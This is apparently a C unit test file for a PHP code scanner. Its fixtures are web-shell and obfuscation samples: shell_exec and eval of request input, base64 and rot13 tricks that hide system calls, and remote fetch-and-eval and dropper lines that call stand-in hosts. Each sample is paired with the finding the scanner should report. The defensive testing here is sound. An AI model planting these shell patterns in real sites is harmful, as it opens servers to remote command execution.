/* php_test.c - PHP: pieces that become code, requests that reach it; and what must not hurt. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "facts/languages/php_parts.h"
#include "support/say_facts.h"

extern const RtLanguage rt_language_php;

typedef struct {
    const char *name, *script, *wanted;
} Case;

static const Case cases[] = {
    { "request to shell",
      "<?php if (isset($_POST['c'])) { $c = $_POST['c']; $o = shell_exec($c); echo $o; }",
      "call|http-input|_POST|c\nproc.exec||shell_exec <- call" },
    { "eval of decoded", "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
      "data.decode|base64_decode|system('id');\ncode.eval|system('id');|eval <- data.decode" },
    { "eval of request", "<?php @eval($_REQUEST['x']);", "code.eval||eval <- call" },
    { "names in pieces", "<?php $a = 'as'.'se'; $b = $a.'rt'; $b($_GET['q']);",
      "code.eval||assert <- call" },
    { "function gives a name",
      "<?php function m(){ $a='sfdtr'; return str_replace('fd','',$a.'_refdpl'.'afdce'); } $j = "
      "m(); "
      "$k = $j('z','','zbazsze64_zdeczodze'); echo $k('aGVsbG8gd29ybGQ=');",
      "data.decode|base64_decode|hello world" },
    { "create_function", "<?php $f = create_function('$x', 'eval($x);'); $f($_POST['p']);",
      "code.eval|eval($x);|create_function\ncode.eval||closure call <- code.eval call" },
    { "preg e", "<?php preg_replace('/.*/e', $_POST['p'], '');",
      "code.eval||preg_replace /e <- call" },
    { "remote eval", "<?php $s = file_get_contents('https://a.invalid/s.txt'); eval('?>'.$s);",
      "net.request|https://a.invalid/s.txt|GET\ncode.eval|?>|eval <- net.request" },
    { "include of data", "<?php include('data:text/plain;base64,PD9waHA=');",
      "code.eval|data:text/plain;base64,PD9waHA=|include" },
    { "escapes", "<?php $f = \"\\x73\\171stem\"; $f(\"id\");", "proc.exec|id|system" },
    { "chr and xor", "<?php $f = chr(115).'ystem'; $f('id'); $g = ('!'^'@'); ",
      "proc.exec|id|system\ndata.decode|xor|a" },
    { "array pieces", "<?php $p = array('sys','tem'); $f = $p[0].$p[1]; $f('w');",
      "proc.exec|w|system" },
    { "callback", "<?php array_map('assert', array($_POST['x']));", "code.eval||assert <- call" },
    { "rot13 and reverse", "<?php $f = str_rot13('flfgrz'); $f(strrev('di'));",
      "proc.exec|id|system" },
    { "backticks", "<?php echo `$_GET[c]`;", "proc.exec||backticks <- call" },
    { "dropper", "<?php file_put_contents('x.php', file_get_contents('http://192.0.2.1/x'));",
      "file.write|x.php <- net.request" },
    { "node from php", "<?php shell_exec('node -e \"1\" > /dev/null 2>&1 &');",
      "proc.exec|node -e \"1\" > /dev/null 2>&1 &|shell_exec" },
    { "curl", "<?php $c = curl_init('https://a.invalid/j'); $r = curl_exec($c); eval($r);",
      "net.request|https://a.invalid/j\ncode.eval||eval <- net.request" },
    { "plain library",
      "<?php namespace A; use B\\C; class D { private $x = []; public function run(array $a) { "
      "return implode(',', $a) . $this->x['k']; } }",
      "!code.eval\n!proc.exec\n!net.request" },
    { "template",
      "<html><?php foreach ($items as $i): ?><li><?= htmlspecialchars($i->name) ?></li><?php "
      "endforeach; ?></html>",
      "!code.eval\n!proc.exec" },
};

static void test_cases(void **state)
{
    (void)state;
    int missing = 0;
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        FAKE_SINK fake = fake_sink_open(RT_STR("x.php"), rt_str_from_c(cases[i].script));
        rt_language_php.observe(&fake->layers[1], 1, &fake->sink);
        missing += miss_facts(cases[i].name, say_facts(fake), cases[i].wanted);
    }
    assert_int_equal(missing, 0);
}

static void test_truncated(void **state)
{
    (void)state;
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        RtStr script = rt_str_from_c(cases[i].script);
        for (size_t len = 0; len < script.len; len++) {
            FAKE_SINK fake = fake_sink_open(RT_STR("x.php"), rt_str_sub(script, 0, len));
            rt_language_php.observe(&fake->layers[1], 1, &fake->sink);
        }
    }
}

static void test_hostile(void **state)
{
    (void)state;
    static const char *const pieces[] = { "(",
                                          "[",
                                          "$x[",
                                          "$$",
                                          "${",
                                          "eval(",
                                          "'a'.",
                                          "$a=$a.$a;",
                                          "!",
                                          "function f(){",
                                          "function f(){} ",
                                          "f();function f(){f();f();",
                                          "/*",
                                          "\"$a$a",
                                          "<<<A\n",
                                          "`",
                                          "?><?php ",
                                          "a::",
                                          "$a->",
                                          "x?",
                                          "^'a'",
                                          "array(",
                                          "$a='b';$a($a($a(" };
    for (size_t i = 0; i < RT_COUNT(pieces); i++) {
        FAKE_SINK fake = fake_sink_open(RT_STR("x.php"), RT_STR(""));
        RtText text = { .arena = fake->sink.arena };
        rt_text_add(&text, RT_STR("<?php $a='xxxxxxxxxxxxxxxx';"));
        for (int k = 0; k < 5000; k++)
            rt_text_add(&text, rt_str_from_c(pieces[i]));
        RtLayer layer = { .bytes = rt_text_str(&text) };
        rt_language_php.observe(&layer, 1, &fake->sink);
    }
}

/* "hello hello hello hello\n" by zlib, stored, fixed and cut. */
static void test_inflate(void **state)
{
    (void)state;
    static const uint8_t fixed[] = { 0xcb, 0x48, 0xcd, 0xc9, 0xc9, 0x57,
                                     0xc8, 0x40, 0x27, 0xb9, 0x00 };
    static const uint8_t stored[] = { 0x01, 0x03, 0x00, 0xfc, 0xff, 'a', 'b', 'c' };
    FAKE_SINK fake = fake_sink_open(RT_STR("x"), RT_STR(""));
    RtStr text = rt_php_inflate(fake->sink.arena, (RtStr){ .at = fixed, .len = sizeof fixed }, 100);
    assert_true(rt_str_equal(text, RT_STR("hello hello hello hello\n")));
    assert_true(rt_str_equal(
        rt_php_inflate(fake->sink.arena, (RtStr){ .at = stored, .len = sizeof stored }, 100),
        RT_STR("abc")));
    assert_int_equal(
        rt_php_inflate(fake->sink.arena, (RtStr){ .at = fixed, .len = sizeof fixed }, 10).len, 10);
    for (size_t len = 0; len < sizeof fixed; len++)
        (void)rt_php_inflate(fake->sink.arena, (RtStr){ .at = fixed, .len = len }, 100);
    uint8_t noise[64];
    for (uint32_t seed = 1; seed < 20000; seed++) {
        uint32_t value = seed * 2654435761u;
        for (size_t i = 0; i < sizeof noise; i++)
            noise[i] = (uint8_t)((value = value * 1664525u + 1013904223u) >> 24);
        (void)rt_php_inflate(fake->sink.arena, (RtStr){ .at = noise, .len = sizeof noise }, 4096);
    }
}

static void test_bids(void **state)
{
    (void)state;
    assert_true(rt_language_php.bid(RT_STR("a.txt"), RT_STR("<?php echo 1;")) >= 80);
    assert_true(rt_language_php.bid(RT_STR("a.php"), RT_STR("<html><?= 1 ?>")) >= 60);
    assert_int_equal(
        rt_language_php.bid(RT_STR("a.js"), RT_STR("var x = 'text before it and more <?php';")), 0);
    assert_int_equal(rt_language_php.bid(RT_STR("a.php"), RT_STR("plain")), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cases), cmocka_unit_test(test_truncated),
        cmocka_unit_test(test_hostile), cmocka_unit_test(test_inflate), cmocka_unit_test(test_bids)
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
